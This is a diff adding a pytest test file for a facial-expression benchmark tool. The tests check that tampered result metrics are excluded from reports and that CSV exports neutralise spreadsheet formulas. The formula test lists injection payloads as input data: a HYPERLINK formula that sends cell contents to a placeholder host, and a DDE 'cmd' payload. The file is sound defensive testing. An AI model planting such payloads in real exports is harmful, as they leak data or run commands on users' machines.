@@ -1,0 +1,208 @@
+"""Hostile inputs, round 3 (issue 29): numbers that cannot be hand-edited into a report, an interrupt
+that stops spending, one set of limits, bounded reads of data, an unwritable cache, redirects to
+another host, spreadsheet formulas in CSV exports, and includes outside the suite's folder.
+
+Runs are tiny: synthetic faces, 10 training images per class, 1 epoch of the MLP.
+"""
+from __future__ import annotations
+
+import copy
+import csv
+import io
+import json
+import math
+import random
+import shutil
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+
+from ferbench.cli import main
+from ferbench.csvsafe import safe_cell
+from ferbench.leaderboard import collect
+from ferbench.store import load_run
+
+SUITE = """name: t
+data: synthetic:700:1
+defaults: {epochs: 1, batch_size: 32}
+studies:
+  - name: s
+    split: {kind: official, train_per_class: 10, eval_per_class: 5}
+    experiments:
+      - {model: mlp, label: a}
+"""
+
+
+def cli(*args):
+    return CliRunner().invoke(main, [str(a) for a in args])
+
+
+def write_suite(folder: Path, text: str = SUITE, name: str = "suite.yaml") -> Path:
+    folder.mkdir(parents=True, exist_ok=True)
+    p = folder / name
+    p.write_text(text)
+    return p
+
+
+@pytest.fixture(scope="module")
+def finished(tmp_path_factory) -> Path:
+    """A complete run of SUITE (results/t/s.a); tests copy it before changing it."""
+    base = tmp_path_factory.mktemp("finished")
+    r = cli("run", write_suite(base), "--results-dir", base / "res")
+    assert r.exit_code == 0, r.output
+    return base / "res" / "t"
+
+
+@pytest.fixture
+def run_dir(finished, tmp_path) -> Path:
+    shutil.copytree(finished, tmp_path / "t")
+    return tmp_path / "t"
+
+
+def edit_result(run: Path, change) -> None:
+    p = run / "s.a" / "result.json"
+    raw = json.loads(p.read_text())
+    change(raw)
+    p.write_text(json.dumps(raw))
+
+
+# --- 1. reported numbers come from the digested predictions ----------------------------------------------
+
+def test_an_edited_metric_is_left_out_everywhere(run_dir):
+    original = load_run(run_dir).results[0].metrics["test"]
+
+    def forge(raw):
+        m = raw["metrics"]["test"]
+        m["accuracy"] = min(1.0, m["accuracy"] + 0.25)
+        m["accuracy_ci"] = [0.0, 1.0]
+
+    edit_result(run_dir, forge)
+    run = load_run(run_dir)
+    assert run.results == [] and "metrics.test.accuracy is" in run.left_out[0][1]
+    assert "predictions.csv gives" in run.left_out[0][1]
+    assert collect([run_dir]).rows == []
+    r = cli("results", run_dir)
+    assert r.exit_code == 0 and f"{100 * original.accuracy + 25:.2f}" not in r.output and "left out" in r.output
+    r = cli("report", run_dir)
+    assert r.exit_code == 0, r.output
+    assert "predictions.csv gives" in (run_dir / "report.md").read_text()
+
+
+@pytest.mark.parametrize("field,value,why", [
+    ("accuracy", 7.5, "less than or equal to 1"),
+    ("n", -3, "greater than or equal to"),
+    ("accuracy", "0.99", "a number is expected, not str"),
+    ("n", True, "an integer is expected, not bool"),
+    ("macro_f1", float("nan"), "metrics.test.macro_f1"),
+    ("accuracy_ci", [0.9, 0.1], "upside down"),
+    ("confusion", [[999999]], "confusion must be"),
+])
+def test_wrong_types_ranges_and_shapes_leave_one_result_out_with_its_reason(run_dir, field, value, why):
+    edit_result(run_dir, lambda raw: raw["metrics"]["test"].__setitem__(field, value))
+    run = load_run(run_dir)
+    assert run.results == [] and why in run.left_out[0][1], run.left_out
+    r = cli("report", run_dir)  # the whole report still renders; that one result is listed as left out
+    assert r.exit_code == 0, r.output
+
+
+def test_a_tampered_result_is_incomplete_in_list_and_rerun(run_dir):
+    suite = write_suite(run_dir.parent / "suite")
+    edit_result(run_dir, lambda raw: raw["metrics"]["test"].__setitem__("macro_f1", 0.999))
+    r = cli("list", suite, "--results-dir", run_dir.parent, "--json")
+    assert r.exit_code == 0, r.output
+    row = json.loads(r.output)["experiments"][0]
+    assert row["status"] == "incomplete" and "metrics.test.macro_f1" in row["detail"]
+
+
+FUZZ_VALUES = [float("nan"), float("inf"), -float("inf"), "0.99", True, False, None, -3, 7.5, 1e308, 2**70,
+               [], [[999999]], {}, [0.1], [0.9, 0.1], "x", -1e-9]
+
+
+def _paths(obj, prefix=()):
+    """Every leaf (and list) of a JSON object, as a key path."""
+    out = [prefix] if prefix else []
+    if isinstance(obj, dict):
+        for k, v in obj.items():
+            out += _paths(v, prefix + (k,))
+    elif isinstance(obj, list):
+        for i, v in enumerate(obj):
+            out += _paths(v, prefix + (i,))
+    return out
+
+
+def _set(obj, path, value):
+    for k in path[:-1]:
+        obj = obj[k]
+    obj[path[-1]] = value
+
+
+def test_fuzz_no_edited_value_reaches_a_table(run_dir):
+    """Seeded random edits of result.json's numbers (types, ranges, NaN/inf, shapes, small nudges): the
+    result is either left out with a reason, or what reaches a table is exactly the untouched numbers."""
+    p = run_dir / "s.a" / "result.json"
+    pristine = json.loads(p.read_text())
+    truth = load_run(run_dir).results[0]
+    truth_rows = collect([run_dir]).rows
+    paths = [q for q in _paths(pristine) if q[0] in ("metrics", "timing", "parameters", "history")]
+    rng = random.Random(29)
+    kept = 0
+    for _ in range(300):
+        raw = copy.deepcopy(pristine)
+        for _ in range(rng.randint(1, 3)):
+            path = rng.choice(paths)
+            old = json.loads(json.dumps(raw))
+            for k in path[:-1]:
+                old = old[k] if isinstance(old, dict) or (isinstance(k, int) and k < len(old)) else None
+                if old is None:
+                    break
+            cur = old.get(path[-1]) if isinstance(old, dict) else None
+            if isinstance(cur, (int, float)) and not isinstance(cur, bool) and rng.random() < 0.4:
+                value = cur + rng.choice([1e-6, -1e-6, 0.01, -0.01, 0.5, 1])  # a plausible nudge
+            else:
+                value = rng.choice(FUZZ_VALUES)
+            try:
+                _set(raw, path, value)
+            except (IndexError, KeyError, TypeError):
+                continue
+        p.write_text(json.dumps(raw))
+        run = load_run(run_dir)
+        if run.results:
+            kept += 1
+            assert run.results[0].metrics == truth.metrics
+            assert [r for r in collect([run_dir]).rows] == truth_rows
+        else:
+            assert run.left_out and run.left_out[0][1]
+    assert 0 < kept < 300  # both outcomes occur: harmless edits (timing) and refused ones
+
+
+# --- 7. spreadsheet formulas are neutralised in every CSV export -------------------------------------------
+
+@pytest.mark.parametrize("cell,safe", [
+    ('=HYPERLINK("http://x/?"&A1, "open")', '\'=HYPERLINK("http://x/?"&A1, "open")'),
+    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-1", "-1"), ("1e-05", "1e-05"), ("happy", "happy"), (-1, -1),
+])
+def test_safe_cell_follows_owasp(cell, safe):
+    assert safe_cell(cell) == safe
+
+
+def test_a_suite_label_formula_is_inert_in_tables_and_results_csv(tmp_path):
+    suite = write_suite(tmp_path, SUITE.replace("label: a", "label: '-2+3'"))
+    r = cli("run", suite, "--results-dir", tmp_path / "res")
+    assert r.exit_code == 0, r.output
+    run = tmp_path / "res" / "t"
+    texts = [p.read_text() for p in (run / "tables").glob("*.csv")]
+    r = cli("results", run, "--csv", tmp_path / "all.csv")
+    assert r.exit_code == 0, r.output
+    texts.append((tmp_path / "all.csv").read_text())
+    cells = [c for t in texts for row in csv.reader(io.StringIO(t)) for c in row]
+    assert "'-2+3" in cells
+    assert not [c for c in cells if c.startswith(("=", "+", "@")) or (c.startswith("-") and not _number(c))]
+
+
+def _number(s: str) -> bool:
+    try:
+        return math.isfinite(float(s))
+    except ValueError:
+        return False
